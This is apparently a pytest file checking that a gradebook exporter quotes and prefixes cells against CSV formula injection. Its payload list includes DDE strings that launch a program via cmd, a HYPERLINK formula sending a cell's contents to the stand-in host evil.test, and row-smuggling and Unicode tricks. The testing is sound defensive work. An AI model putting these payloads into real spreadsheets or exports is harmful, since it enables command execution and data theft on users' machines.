"""Attack 40: formulas, commas, quotes and line ends in a student's name, address or id; cells are quoted and prefixed.

`exported` is the only way from a class to the files, so that another way (a command) can take its place.
"""

import csv
import io
from collections.abc import Mapping

import gradebooks
import pytest

from checker.gradebook import EXPORTERS

PAYLOADS = {
    "a program": "=cmd|' /C calc'!A0",
    "an address with a cell": '=HYPERLINK("http://evil.test/?"&A1,"see")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "a tab before": "\t=1+1",
    "a line end before": "\r\n=1+1",
    "a space before": "  =1+1",
    "nothing before": "\u200b\ufeff\0=1+1",
    "wide signs": "\uff1d1+1",
    "another row": 'Eve"\n=1+1,=1+1,=1+1',
    "other cells": 'Eve",100,100,100,"',
    "other cells by commas": "Eve,100,100,100",
    "other cells by semicolons": "Eve;=1+1;100;100",
    "other cells by semicolons and quotes": 'Eve;"=1+1";"100',
    "other cells by tabs": "Eve\t=1+1\t100",
    "a quote before": '"=1+1',
    "surrogates": "\ud800=1+1\udfff",
    "the other way round": "\u202e=1+1",
}
OBEYED = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
SHEETS = ["csv", "moodle", "canvas"]


def exported(file_format: str, text: str) -> str:
    """The file of a class in which a student between two others has the text as id, name and address."""
    book = gradebooks.book(
        gradebooks.complete("1001", 80, "Ada", "ada@example.org"),
        gradebooks.complete(text, 40, text, text or "-"),
        gradebooks.complete("1003", 160, "Alan", "alan@example.org"),
    )
    options = {"exported": canvas_export(text)} if file_format == "canvas" else {}
    (file,) = EXPORTERS[file_format](book, **options).files.values()
    return file


def canvas_export(text: str) -> str:
    """What Canvas exports of that class: it quotes names, and writes them as they are."""
    rows = [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "0x08 (812)"],
        ["    Points Possible", "", "", "", "", "100.00"],
        ["Ada", "7", "1001", "ada@example.org", "A", ""],
        [text, "8", text, text, "A", ""],
        ["Alan", "9", "1003", "alan@example.org", "A", ""],
    ]
    written = io.StringIO()
    csv.writer(written).writerows(rows)
    return written.getvalue()


def read(file: str, delimiter: str = ",") -> list[list[str]]:
    """The cells as a program reads them that takes `delimiter` for what parts them."""
    return list(csv.reader(io.StringIO(file, newline=""), delimiter=delimiter))


def points(file_format: str, file: str) -> Mapping[str, list[str]]:
    """Who has which points: the first cell of each row → its cells behind the identifying ones."""
    first = {"csv": 5, "moodle": 3, "canvas": 5}[file_format]
    return {row[0]: row[first : first + 1] for row in read(file)}


@pytest.mark.parametrize("file_format", SHEETS)
@pytest.mark.parametrize("name", PAYLOADS)
def test_no_cell_is_computed(name, file_format):
    """No cell begins like a formula, whether a program parts cells at commas, semicolons or tabs."""
    file = exported(file_format, PAYLOADS[name])
    for delimiter in ",;\t":
        cells = [cell for row in read(file, delimiter) for cell in row]
        assert [cell for cell in cells if cell.startswith(OBEYED) or cell.lstrip().startswith(OBEYED)] == []


@pytest.mark.parametrize("file_format", SHEETS)
@pytest.mark.parametrize("name", PAYLOADS)
def test_nobody_elses_points_change(name, file_format):
    """A row is a line of its own, every row is as long as the header, and points stand where they belong."""
    file = exported(file_format, PAYLOADS[name])
    rows = read(file)
    ours = {"csv": ("1001", "1003"), "moodle": ("ada@example.org", "alan@example.org"), "canvas": ("Ada", "Alan")}
    expected = {"csv": ("80", "160"), "moodle": ("50.00", "100.00"), "canvas": ("50.00", "100.00")}
    told = points(file_format, file)
    assert [told[who] for who in ours[file_format]] == [[score] for score in expected[file_format]]
    assert {len(row) for row in rows} == {len(rows[0])}
    assert file.count("\n") == len(rows) == {"csv": 4, "moodle": 4, "canvas": 5}[file_format]


@pytest.mark.parametrize("file_format", SHEETS)
@pytest.mark.parametrize("name", PAYLOADS)
def test_the_attackers_points_are_their_own(name, file_format):
    """The name does not stand in the place of the points, nor does it lose them."""
    file = exported(file_format, PAYLOADS[name])
    attackers = list(points(file_format, file).values())[-2]
    assert attackers == [{"csv": "40", "moodle": "25.00", "canvas": "25.00"}[file_format]]


@pytest.mark.parametrize("file_format", SHEETS)
@pytest.mark.parametrize("name", PAYLOADS)
def test_the_file_is_plain_text(name, file_format):
    """Nothing in it hides or turns the line round, and it can be written as UTF-8."""
    file = exported(file_format, PAYLOADS[name])
    assert all(line.isprintable() for line in file.split("\n"))
    assert file.encode()


def test_the_attacks_are_real():
    """Written by the csv library alone, most of them would be computed."""
    computed = set()
    for name, text in PAYLOADS.items():
        written = io.StringIO()
        csv.writer(written).writerow(["1001", text])
        cells = [cell for delimiter in ",;\t" for row in read(written.getvalue(), delimiter) for cell in row]
        computed |= {name for cell in cells if cell.startswith(OBEYED) or cell.lstrip().startswith(OBEYED)}
    assert set(PAYLOADS) - computed == {
        "nothing before", "other cells", "other cells by commas", "a quote before", "surrogates", "the other way round",
    }  # fmt: skip
